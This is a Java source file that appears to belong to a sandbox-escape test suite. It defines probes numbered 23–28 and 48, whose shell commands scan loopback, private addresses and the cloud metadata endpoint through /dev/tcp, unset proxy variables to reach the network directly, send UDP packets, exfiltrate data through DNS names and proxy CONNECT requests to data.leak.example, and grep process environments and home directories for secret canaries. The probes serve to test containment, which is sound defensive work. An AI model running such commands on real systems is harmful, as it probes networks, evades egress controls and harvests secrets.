package dev.paddock.escape;

import java.util.List;

/** Attacks 23–28 and 48: ways out that are no door, and what must not be found inside. */
final class NetworkAttacks {
    private static final String UDP = """
            python3 -c 'import os, socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"x", ("127.0.0.1", int(os.environ["UDP"])))'""";

    private NetworkAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.shell(
                        23,
                        "reach the machine's own services and its network",
                        "{ exec 3<>/dev/tcp/127.0.0.1/$TCP; } 2>/dev/null && echo OPEN loopback; { exec 3<>/dev/tcp/::1/$TCP; } 2>/dev/null && echo OPEN ::1; for a in 10.0.0.1 192.168.0.1 172.17.0.1 169.254.169.254; do { exec 3<>/dev/tcp/$a/80; } 2>&1 | grep -q unreachable || echo OPEN $a; done; [ \"$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ')\" = lo ] || echo OPEN devices; [ \"$(tail -n +2 /proc/net/route)\" ] && echo OPEN routes",
                        "{ exec 3<>/dev/tcp/127.0.0.1/$TCP; } && echo OPEN loopback"),
                new Attack(24, "send UDP, ICMP or raw packets out", NetworkAttacks::packets),
                Attack.shell(
                        25,
                        "go out without the proxy",
                        "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy; for a in 192.0.2.1 198.51.100.1; do { exec 3<>/dev/tcp/$a/443; } 2>&1 | grep -q unreachable || echo OPEN $a; done",
                        "{ exec 3<>/dev/tcp/127.0.0.1/$TCP; } && echo OPEN"),
                new Attack(26, "carry data out in names that are looked up", NetworkAttacks::names),
                Attack.calls(
                        27,
                        "use other kinds of sockets (VSOCK, NETLINK, PACKET, ALG)",
                        "vsock packet raw uevent generic alg",
                        "uevent generic"),
                Attack.shell(
                        28,
                        "connect to an abstract Unix socket",
                        "python3 -c 'import os, socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(\"\\0\" + os.environ[\"ABSTRACT\"])\nprint(\"OPEN\")'"),
                Attack.shell(
                        48,
                        "find a key in the environment, in processes or in files",
                        "grep -raFhs canary- /proc/[0-9]*/environ /proc/[0-9]*/cmdline /home /paddock /workspace /tmp /etc /dev/shm 2>/dev/null | grep -v PROBE= | head -5; env | grep -F canary-",
                        "grep -raFhs canary- \"$DIRECTORY/token\""));
    }

    private static Outcome packets(Target target) {
        target.forgetTouches();
        Said outside = target.outside(UDP);
        if (!target.touches().contains("udp")) {
            return new Outcome.Unproven("outside, a packet does not arrive either: " + outside.line());
        }
        Said inside = target.inside(
                UDP
                        + "; python3 -c \"$PROBE\" raw packet; for a in 192.0.2.1 8.8.8.8; do { echo x >/dev/udp/$a/53; } 2>&1 | grep -q unreachable || echo OPEN $a; done");
        String touched = target.touches();
        if (!touched.isEmpty() || inside.has(Attack.OPEN)) {
            return new Outcome.Escaped(inside.line() + " " + touched);
        }
        return inside.has("raw closed")
                ? new Outcome.Held()
                : new Outcome.Unproven("the probe did not run: " + inside.line());
    }

    /** A name with data in it, by every way there is; the one name that is allowed shows that the gateway looks names up at all. */
    private static Outcome names(Target target) {
        target.out().lookedUp().clear();
        String connect =
                "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n' NAME NAME >&3; read -r -t 5 line <&3; echo \"$line\"";
        Said control = target.inside(connect.replace("NAME", "allowed.example"));
        if (!target.out().lookedUp().contains("allowed.example")) {
            return new Outcome.Unproven("an allowed name is not looked up: " + control.line());
        }
        target.out().lookedUp().clear();
        Said inside = target.inside(
                "getent hosts data.leak.example; "
                        + connect.replace("NAME", "data.leak.example")
                        + "; exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://data.leak.example/ HTTP/1.1\\r\\nHost: data.leak.example\\r\\n\\r\\n' >&3; read -r -t 5 line <&3; echo \"$line\""
                        + "; exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT data.allowed.example:443 HTTP/1.1\\r\\nHost: data.allowed.example:443\\r\\n\\r\\n' >&3; read -r -t 5 line <&3; echo \"$line\"");
        if (!target.out().lookedUp().isEmpty()) {
            return new Outcome.Escaped("looked up: " + target.out().lookedUp());
        }
        return inside.has(" 403 ")
                ? new Outcome.Held()
                : new Outcome.Unproven("no refusal was heard: " + inside.line());
    }
}
